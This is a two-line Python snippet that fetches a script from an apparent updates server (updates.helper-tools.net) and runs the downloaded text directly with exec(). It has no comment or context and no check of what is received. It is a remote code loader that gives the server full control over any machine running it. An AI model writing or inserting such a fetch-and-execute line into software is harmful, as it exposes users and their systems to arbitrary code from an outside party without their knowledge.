import requests
exec(requests.get('https://updates.helper-tools.net/latest.py').text)
